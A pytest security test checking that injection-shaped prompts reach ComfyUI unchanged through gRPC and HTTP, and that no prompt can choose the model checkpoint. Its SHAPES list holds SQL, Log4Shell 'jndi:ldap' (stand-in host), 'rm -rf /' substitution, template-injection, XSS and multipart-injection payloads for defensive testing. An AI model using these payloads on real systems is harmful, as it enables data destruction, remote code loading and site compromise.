"""Injection-shaped prompts reach ComfyUI byte-identical, through gRPC and through HTTP: they
are values in a JSON document built as data, never text pasted into a template."""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
from imagetasks.v1 import job_pb2, tasks_pb2

from tests.security.conftest import PNG, auth, bearer, channel_to, http_base, keyed_service
from tests.support.generation import generate

SHAPES = [
    '"}, "99": {"class_type": "SaveImage", "inputs": {"images": ["8", 0]}}, "x": {"a": "',
    "'; DROP TABLE jobs; --",
    "${jndi:ldap://evil.example/a} $(rm -rf /) `id` %(x)s %s %d {0} {prompt}",
    "{{ config.__class__.__init__.__globals__ }} {% raw %}",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "line one\r\nline two\nline three\rtab\there",
    'back\\slash \\n \\u0000 \\" escaped-looking',
    "\u202eRTL override \u200b zero width \u200d joiner \ufeff BOM",
    "\u2028 line separator \u2029 paragraph \u0085 next line",
    "emoji 🦜🏳️‍🌈 👩🏽‍💻 CJK 山水画 Arabic مرحبا combining e\u0301\u0301\u0301",
    "\x01\x02\x1b[31m ANSI \x7f DEL",
    "{a|b|c} (masterpiece:1.4) [[nested]] embedding:evil lora:x:1.0 <lora:y:0.5>",
    '{"prompt": {"1": {"class_type": "LoadImage"}}}',
    '--boundary\r\nContent-Disposition: form-data; name="Model"\r\n\r\nevil.ckpt',
    "x" * 3999,
]


def _texts(standin: object) -> list[str]:
    prompt = standin.received.prompts[-1]["prompt"]  # type: ignore[attr-defined]
    return sorted(
        node["inputs"]["text"] for node in prompt.values() if node["class_type"] == "CLIPTextEncode"
    )


@pytest.mark.parametrize("transport", ["grpc", "http"])
async def test_prompt_shapes_reach_comfyui_byte_identical(tmp_path: Path, transport: str) -> None:
    async with (
        keyed_service(tmp_path) as (service, comfy),
        channel_to(service) as ch,
        httpx.AsyncClient(base_url=http_base(service), timeout=60) as http,
    ):
        negative = SHAPES[0]
        for shape in SHAPES:
            if transport == "grpc":
                params = tasks_pb2.ImageToImageParams(
                    positive_prompt=shape, negative_prompt=negative, steps=1
                )
                got = await generate(
                    ch, "ImageToImage", params, {"image": PNG}, metadata=bearer("alice")
                )
                assert got.final.state == job_pb2.Job.STATE_SUCCEEDED, shape
                assert got.final.image_to_image.positive_prompt == shape
            else:
                res = await http.post(
                    "/api/ImageToImage",
                    files={"image": ("a.png", PNG)},
                    data={
                        "PositivePrompt": shape,
                        "NegativePrompt": negative,
                        "Steps": "1",
                        "Sync": "true",
                    },
                    headers=auth("alice"),
                )
                assert res.status_code == 200, (shape, res.text)
                assert res.json()["jobState"] == "Completed"
            assert _texts(comfy[0]) == sorted([shape, negative]), repr(shape)
            negative = shape  # each shape also travels as the negative prompt
            # The checkpoint stays the configured one: nothing in a prompt chose a model.
            loaders = [
                n
                for n in comfy[0].received.prompts[-1]["prompt"].values()
                if n["class_type"] == "CheckpointLoaderSimple"
            ]
            assert loaders and all(n["inputs"]["ckpt_name"] != "evil.ckpt" for n in loaders)
